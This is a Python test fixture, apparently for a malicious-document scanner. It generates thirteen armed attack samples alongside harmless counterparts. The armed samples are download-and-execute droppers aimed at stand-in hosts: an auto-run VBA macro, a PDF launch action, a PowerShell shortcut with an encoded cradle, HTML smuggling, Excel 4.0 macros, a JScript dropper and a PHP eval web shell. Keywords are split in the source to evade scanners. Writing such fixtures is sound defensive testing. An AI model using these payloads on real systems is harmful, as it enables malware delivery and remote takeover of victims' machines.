"""Thirteen tricks. Words that a scanner might take this source for are put together from halves."""

import base64
from dataclasses import dataclass

from tests.engine.pdf_samples import pdf
from tests.engine.samples import launcher, minimal_pe, zipped
from tests.engine.tricks.containers import docx, iso, lnk, onenote, package, rtf
from tests.engine.vba_samples import project
from tests.engine.xlm_samples import CALL, EXEC, call, joined, number, spelled, text, workbook

SITE = "http://files.example.invalid"
_PS = "power" + "shell"
_SHELL = "WScript." + "Shell"
_FETCH = "Down" + "loadFile"
_RUN = "IE" + "X"


@dataclass(frozen=True)
class Trick:
    """One trick, armed and cleaned."""

    code: str
    ja: str
    en: str
    name: str
    armed: bytes
    cleaned: bytes
    readers: tuple[str, ...] = ()  # kinds whose readers must be there for it to be seen
    cleaned_name: str = ""


def _encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


_CRADLE = f"{_RUN} (New-Object Net.Web" + f"Client).Down{'loadString'}('{SITE}/a.txt')"
_HTA = (
    "<html><head><hta:application windowstate='minimize'/><script language='VBScript'>\r\n"
    f'CreateObject("{_SHELL}").Run "{_PS} -w hidden -nop -c " & Chr(34) & "{_CRADLE}" & Chr(34), 0\r\n'
    "window.close\r\n</script></head></html>"
)


def _macro() -> Trick:
    armed = (
        "Sub AutoOpen()\r\n"
        '  Dim h, s, p\r\n  Set h = CreateObject("MSXML2.XML" & "HTTP")\r\n'
        f'  h.Open "GET", "{SITE}/a.exe", False\r\n  h.Send\r\n'
        '  p = Environ("TEMP") & "\\a.exe"\r\n'
        '  Set s = CreateObject("ADODB." & "Stream")\r\n  s.Type = 1\r\n  s.Open\r\n  s.Write h.responseBody\r\n'
        f'  s.SaveToFile p, 2\r\n  CreateObject("{_SHELL}").Run p, 0\r\nEnd Sub\r\n'
    )
    cleaned = 'Sub AutoOpen()\r\n  ActiveDocument.Fields.Update\r\n  MsgBox "ページ数: " & 3\r\nEnd Sub\r\n'
    return Trick(
        "macro_download",
        "開くと、インターネットから取得したプログラムを実行するマクロ",
        "a macro that downloads a program and runs it when the document is opened",
        "見積書.doc",
        project({"ThisDocument": armed}),
        project({"ThisDocument": cleaned}),
        ("ole2", "vba"),
    )


def _pdf_launch() -> Trick:
    action = b"<</S/Launch/Win<</F(cmd.exe)/P(/c start %s)>>>>" % f"mshta {SITE}/a.hta".encode()
    return Trick(
        "pdf_launch",
        "開くとプログラムを起動するPDF",
        "a PDF that starts a program when it is opened",
        "請求書.pdf",
        pdf({10: action}, catalog=b"/OpenAction 10 0 R"),
        pdf({10: b"<</S/GoTo/D[3 0 R/Fit]>>"}, catalog=b"/OpenAction 10 0 R"),
        ("pdf",),
    )


def _shortcut() -> Trick:
    return Trick(
        "lnk_powershell",
        "文書に見せかけ、PowerShellを動かすショートカット",
        "a shortcut that poses as a document and runs PowerShell",
        "議事録.pdf.lnk",
        lnk(
            f"..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\{_PS}.exe",
            f"-w hidden -nop -ep bypass -e {_encoded(_CRADLE)}",
            minimised=True,
        ),
        lnk("..\\..\\Program Files\\App\\app.exe", '--open "C:\\Users\\Public\\Documents\\minutes.pdf"', name="議事録"),
        ("lnk",),
        "議事録.lnk",
    )


def _smuggling() -> Trick:
    inner = base64.b64encode(zipped({"invoice.js": _dropper().armed})).decode()
    script = (
        f"var d=atob('{inner}');var n=new Uint8Array(d.length);for(var i=0;i<d.length;i++)n[i]=d.charCodeAt(i);"
        "var b=new Blob([n],{type:'application/zip'});var a=document.createElement('a');"
        "a.href=URL.createObjectURL(b);a.download='invoice.zip';document.body.appendChild(a);a.click();"
    )
    page = "<!doctype html><html><head><title>{}</title></head><body><p>{}</p>{}</body></html>"
    honest = "<script>document.getElementById('d').textContent=new Date().toISOString();</script><b id='d'></b>"
    return Trick(
        "html_smuggling",
        "開くと、中に隠したファイルを勝手に保存するHTML",
        "a page that saves a file hidden inside it by itself",
        "請求書.html",
        page.format("請求書", "ダウンロードが始まります", f"<script>{script}</script>").encode(),
        page.format("お知らせ", "本日の日付", honest).encode(),
        ("html",),
    )


def _double_ending() -> Trick:
    return Trick(
        "double_ending",
        "圧縮ファイルの中の、文書に見せかけたプログラム",
        "a program in an archive whose name poses as a document",
        "資料.zip",
        zipped({"決算資料.pdf                          .exe": launcher(), "readme.txt": b"see inside"}),
        zipped({"setup.exe": launcher(), "readme.txt": b"see inside"}),
    )


def _rtf_object() -> Trick:
    return Trick(
        "rtf_object",
        "スクリプトを埋め込んだRTF文書",
        "an RTF document with a script packed into it",
        "案内.rtf",
        rtf("Please double-click the picture.", object_data=package("invoice.js", _dropper().armed)),
        rtf("Please read the letter."),
        ("rtf",),
    )


def _onenote() -> Trick:
    return Trick(
        "onenote_hta",
        "ボタンの下にプログラム(HTA)を隠したOneNote",
        "a OneNote section with a program (HTA) under a button",
        "共有ノート.one",
        onenote({"open.hta": _HTA.encode()}, "Double click to view the document"),
        onenote({"photo.png": bytes.fromhex("89504e470d0a1a0a") + bytes(60)}, "Minutes of the meeting"),
        ("onenote",),
    )


def _template() -> Trick:
    return Trick(
        "remote_template",
        "開くと、外部のひな形(マクロ入り)を取り込むWord文書",
        "a Word document that fetches a template with macros from outside when it is opened",
        "契約書.docx",
        docx("契約書", template="http://192.0.2.7/t.dotm"),
        docx("契約書"),
        ("docx",),
    )


def _xlm() -> Trick:
    fetch = call(
        CALL, text("url" + "mon"), joined(text("URLDownload"), text("ToFileA")), text("JJCCJJ"), number(0),
        text(f"{SITE}/a.dll"), text("C:\\Users\\Public\\a.dll"), number(0), number(0),
    )  # fmt: skip
    run = call(EXEC, joined(spelled("regsvr32"), text(" /s C:\\Users\\Public\\a.dll")))
    return Trick(
        "xlm_macro",
        "隠したシートの古いマクロ(Excel 4.0)で取得・実行する表",
        "a workbook with a hidden sheet of old macros (Excel 4.0) that download and run",
        "売上.xls",
        workbook([fetch, run], hidden=2, auto=True),
        workbook([number(1), number(2)], macro=False),
        ("ole2",),
    )


def _cradle() -> Trick:
    line = f"@echo off\r\nstart /min {_PS} -NoP -NonI -W Hidden -Exec Bypass -Enc {_encoded(_CRADLE)}\r\n"
    honest = f'@echo off\r\n{_PS} -NoProfile -File "%~dp0backup.ps1" -Target D:\\Backup\r\nif errorlevel 1 pause\r\n'
    return Trick(
        "powershell_cradle",
        "読めない形にした命令で、取得したものをそのまま実行するバッチ",
        "a batch file that runs whatever it downloads, in a form that nobody can read",
        "更新.bat",
        line.encode(),
        honest.encode(),
        ("batch",),
    )


def _dropper() -> Trick:
    armed = (
        'var u = "' + SITE + '/" + "a.exe";\n'
        'var x = new ActiveXObject("MSXML2." + "XMLHTTP"); x.open("GET", u, false); x.send();\n'
        'var s = new ActiveXObject("ADODB." + "Stream"); s.Type = 1; s.Open(); s.Write(x.responseBody);\n'
        f'var w = new ActiveXObject("{_SHELL}"); var p = w.ExpandEnvironmentStrings("%TEMP%") + "\\\\a.exe";\n'
        "s.SaveToFile(p, 2); w.Run(p, 0, false);\n"
    )
    cleaned = (
        "function total(rows) { return rows.reduce(function (a, r) { return a + r.price; }, 0); }\n"
        'document.querySelector("#sum").textContent = total(window.rows);\n'
    )
    return Trick(
        "js_dropper",
        "取得したプログラムを保存して実行するJavaScript",
        "a JavaScript that downloads a program, saves it and runs it",
        "納品書.js",
        armed.encode(),
        cleaned.encode(),
        ("javascript",),
    )


def _web_shell() -> Trick:
    armed = "<?php @" + "ev" + "al(base64_" + "decode($_POST['z0'])); ?>"
    cleaned = "<?php\n$id = (int) ($_GET['id'] ?? 0);\necho htmlspecialchars(find_page($id)->title);\n"
    return Trick(
        "php_web_shell",
        "外からの命令をそのまま実行するPHP(Webシェル)",
        "a PHP file that runs whatever is sent to it (a web shell)",
        "image.php",
        armed.encode(),
        cleaned.encode(),
        ("php",),
    )


def _disk_image() -> Trick:
    letter = b"Dear customer, please find the list of prices attached.\r\n"
    return Trick(
        "iso_lnk",
        "ショートカットとプログラムを入れたディスクイメージ(ISO)",
        "a disk image (ISO) with a shortcut and a program",
        "写真.iso",
        iso({"documents.lnk": _shortcut().armed, "data.dll": minimal_pe()}),
        iso({"letter.txt": letter, "prices.csv": b"item,price\r\npen,100\r\n"}),
        ("iso", "lnk"),
    )


def tricks() -> list[Trick]:
    """Return all tricks, made now."""
    return [
        _macro(), _pdf_launch(), _shortcut(), _smuggling(), _double_ending(), _rtf_object(), _onenote(), _template(),
        _xlm(), _cradle(), _dropper(), _web_shell(), _disk_image(),
    ]  # fmt: skip
